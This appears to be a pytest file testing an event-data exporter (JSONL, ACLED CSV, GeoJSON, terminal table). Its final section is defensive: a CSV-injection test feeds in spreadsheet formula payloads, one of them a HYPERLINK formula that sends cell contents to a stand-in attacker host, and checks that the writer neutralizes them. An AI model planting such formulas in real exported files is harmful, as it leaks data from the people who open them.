"""Exports: JSONL, ACLED CSV, GeoJSON and the terminal table, from output-contract dicts."""

from __future__ import annotations

import csv
import io
import json

import pytest
from rich.console import Console
from rich.table import Table

from eventwire.export import render_table, write_csv, write_geojson, write_jsonl
from eventwire.models import ACLED_COLUMNS, Provenance
from tests.factories import make_document, make_event


def _event(event_id: str, **kw) -> dict:
    document = make_document("Deux drones ont été abattus", doc_id="doc-1", url="https://example.org/1")
    fields = {
        "admin2": None,
        "notes": 'Two drones, "shot down"\nnear the base; no casualties.',
        "fatalities_high": 2,
        "confidence": 0.8,
        "provenance": {"admin2": Provenance("gazetteer", reason="not in text")},
        **kw,
    }
    return make_event(document, event_id=event_id, **fields).as_dict()


@pytest.fixture
def events() -> list[dict]:
    return [
        _event("e1"),
        _event(
            "e2",
            latitude=None,
            longitude=None,
            geo_precision=None,
            location=None,
            event_date=None,
            notes="Plain, with a comma",
            fatalities=3,
            claimed_by=(),
        ),
    ]


def test_write_jsonl_writes_one_object_per_line(events):
    out = io.StringIO()
    assert write_jsonl(events, out) == 2
    lines = out.getvalue().splitlines()
    assert len(lines) == 2
    assert [json.loads(line) for line in lines] == events
    assert "été" in lines[0]  # UTF-8 text, not \u escapes


def test_write_jsonl_rejects_nan(events):
    with pytest.raises(ValueError):
        write_jsonl([{**events[0], "latitude": float("nan")}], io.StringIO())


def test_write_csv_header_is_acled_columns(events):
    out = io.StringIO()
    write_csv(events, out)
    header = next(csv.reader(io.StringIO(out.getvalue())))
    assert tuple(header) == ACLED_COLUMNS


def test_write_csv_round_trips_through_dictreader(events):
    out = io.StringIO(newline="")
    assert write_csv(events, out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 2
    assert rows[0]["notes"] == events[0]["notes"]  # quotes, comma and newline survive
    assert rows[0]["event_date"] == "2023-10-17"
    assert float(rows[0]["latitude"]) == 33.8007
    assert rows[1]["latitude"] == "" and rows[1]["event_date"] == ""
    assert rows[1]["fatalities"] == "3"
    assert "reports" not in rows[0]


def test_write_csv_opens_in_pandas(events, tmp_path):
    pd = pytest.importorskip("pandas")
    path = tmp_path / "events.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        write_csv(events, f)
    frame = pd.read_csv(path)
    assert tuple(frame.columns) == ACLED_COLUMNS
    assert len(frame) == 2


def test_write_geojson_is_a_feature_collection_of_points(events):
    out = io.StringIO()
    assert write_geojson(events, out) == 2
    collection = json.loads(out.getvalue())
    assert collection["type"] == "FeatureCollection"
    first, second = collection["features"]
    assert first["type"] == "Feature"
    assert first["id"] == "e1"
    assert first["geometry"] == {"type": "Point", "coordinates": [42.4413, 33.8007]}  # lon, lat
    assert "latitude" not in first["properties"] and "longitude" not in first["properties"]
    assert first["properties"]["reports"] == events[0]["reports"]
    assert second["geometry"] is None


def test_write_geojson_of_no_events_is_valid(events):
    out = io.StringIO()
    write_geojson([], out)
    assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": []}


def test_render_table_shows_one_row_per_event(events):
    table = render_table(events, title="Events")
    assert isinstance(table, Table)
    assert table.row_count == 2
    console = Console(file=io.StringIO(), width=250, color_system=None)
    console.print(table)
    text = console.file.getvalue()
    assert "Islamic Resistance in Iraq" in text
    assert "Air/drone strike" in text
    assert "33.8007, 42.4413" in text
    assert "0 (0-2)" in text  # fatalities with the range read from the text
    assert "0.80" in text


# -- CSV injection (issue 18) -------------------------------------------------------------------


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"],
)
def test_write_csv_neutralizes_formula_cells(hostile):
    out = io.StringIO()
    write_csv([_event("ew-1", notes=hostile, actor1=hostile, location=hostile)], out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 1
    for column in ("notes", "actor1", "location"):
        # shown as text by a spreadsheet, nothing lost (a carriage return is a line break)
        assert rows[0][column] == "'" + hostile.replace("\r", "\n")


def test_write_csv_keeps_negative_numbers_numeric():
    out = io.StringIO()
    write_csv([_event("ew-1", latitude=-12.5, longitude=-8.25, fatalities=0, notes="A plain note.")], out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["latitude"], row["longitude"], row["notes"]) == ("-12.5", "-8.25", "A plain note.")
